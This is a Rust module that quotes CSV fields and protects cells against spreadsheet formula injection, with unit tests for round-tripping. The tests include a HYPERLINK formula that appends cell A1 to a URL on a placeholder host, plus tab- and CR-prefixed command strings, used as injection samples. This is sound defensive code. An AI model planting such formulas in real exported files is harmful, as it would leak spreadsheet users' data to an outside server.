//! RFC 4180 field quoting and formula protection, shared by every CSV
//! sheetlink writes (templates, error files, exports, the client's result
//! files).
//!
//! **Formula protection, one rule that round-trips.** A spreadsheet runs a
//! cell starting with `=`, `+`, `-`, `@`, tab or CR as a formula (OWASP's CSV
//! injection list), so such a cell is written with a leading `'`, which Excel
//! shows as "text" and does not display; a cell that itself starts with `'`
//! gets one more, so that reading removes exactly one leading `'` from any
//! cell and gets back what was written. A plain negative number (`-5`,
//! `-0.25`) is no formula and is written as it is, so numbers stay numbers.

/// The line end of every CSV the engine writes (what Excel expects).
pub(crate) const CRLF: &[u8] = b"\r\n";

/// Appends `field`, quoted only when it must be: when it holds a comma, a
/// double quote, CR or LF. Inner double quotes are doubled.
pub(crate) fn write_field(out: &mut Vec<u8>, field: &[u8]) {
    if !field
        .iter()
        .any(|&b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
    {
        out.extend_from_slice(field);
        return;
    }
    out.push(b'"');
    for &byte in field {
        if byte == b'"' {
            out.push(b'"');
        }
        out.push(byte);
    }
    out.push(b'"');
}

/// Whether `field` is written with a leading `'` (see the module's rule).
pub fn needs_protection(field: &[u8]) -> bool {
    match field.first() {
        Some(b'=' | b'+' | b'@' | b'\t' | b'\r' | b'\'') => true,
        Some(b'-') => !is_plain_negative_number(&field[1..]),
        _ => false,
    }
}

/// `digits` or `digits.digits`: what follows the minus of a plain negative
/// number.
fn is_plain_negative_number(rest: &[u8]) -> bool {
    let (whole, fraction) = match rest.iter().position(|&b| b == b'.') {
        Some(dot) => (&rest[..dot], Some(&rest[dot + 1..])),
        None => (rest, None),
    };
    let digits = |part: &[u8]| !part.is_empty() && part.iter().all(u8::is_ascii_digit);
    digits(whole) && fraction.is_none_or(digits)
}

/// Appends `field` with formula protection, then quoting as
/// [`write_field`] does.
pub fn write_protected_field(out: &mut Vec<u8>, field: &[u8]) {
    if !needs_protection(field) {
        write_field(out, field);
        return;
    }
    let mut protected = Vec::with_capacity(field.len() + 1);
    protected.push(b'\'');
    protected.extend_from_slice(field);
    write_field(out, &protected);
}

/// `field` written with formula protection, as a string (for writers that
/// quote by themselves).
pub fn protect(field: &str) -> std::borrow::Cow<'_, str> {
    if needs_protection(field.as_bytes()) {
        std::borrow::Cow::Owned(format!("'{field}"))
    } else {
        std::borrow::Cow::Borrowed(field)
    }
}

/// A cell as read back: one leading `'` removed, the inverse of the
/// protection (Excel, too, treats a leading `'` as a text marker only).
#[inline(always)]
pub fn unprotect(cell: &[u8]) -> &[u8] {
    match cell {
        [b'\'', rest @ ..] => rest,
        _ => cell,
    }
}

/// [`unprotect`] for text.
pub fn unprotect_str(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn protection_round_trips_and_leaves_numbers_alone() {
        let cases = [
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"詳細\")",
                "'=HYPERLINK(\"http://x/?\"&A1,\"詳細\")",
            ),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("'=already", "''=already"),
            ("'", "''"),
            ("+81 3", "'+81 3"),
            ("-2+3", "'-2+3"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("-5", "-5"),
            ("-0.25", "-0.25"),
            ("5", "5"),
            ("", ""),
            ("a=b", "a=b"),
            ("評価", "評価"),
        ];
        for (value, written) in cases {
            assert_eq!(protect(value), written, "{value:?}");
            assert_eq!(unprotect_str(&protect(value)), value, "{value:?}");
            assert_eq!(unprotect(protect(value).as_bytes()), value.as_bytes());
        }
        let mut out = Vec::new();
        write_protected_field(&mut out, b"=1,2");
        assert_eq!(out, b"\"'=1,2\"");
    }

    #[test]
    fn quotes_only_what_needs_it() {
        let cases = [
            ("plain", "plain"),
            ("", ""),
            ("12.5", "12.5"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\r\nlines", "\"two\r\nlines\""),
            ("lf\nonly", "\"lf\nonly\""),
            (" spaced ", " spaced "),
            ("日本語", "日本語"),
        ];
        for (field, expected) in cases {
            let mut out = Vec::new();
            write_field(&mut out, field.as_bytes());
            assert_eq!(
                String::from_utf8(out).unwrap_or_default(),
                expected,
                "field {field:?}"
            );
        }
    }
}
